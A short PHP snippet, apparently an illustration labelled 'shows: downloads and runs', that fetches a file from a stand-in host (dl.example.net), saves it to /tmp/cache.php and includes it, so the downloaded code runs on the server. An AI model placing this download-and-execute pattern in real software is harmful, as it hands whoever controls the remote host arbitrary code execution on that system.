<?php // shows: downloads and runs
$c = curl_init("https://dl.example.net/p");
curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
$body = curl_exec($c);
file_put_contents("/tmp/cache.php", $body);
include "/tmp/cache.php";
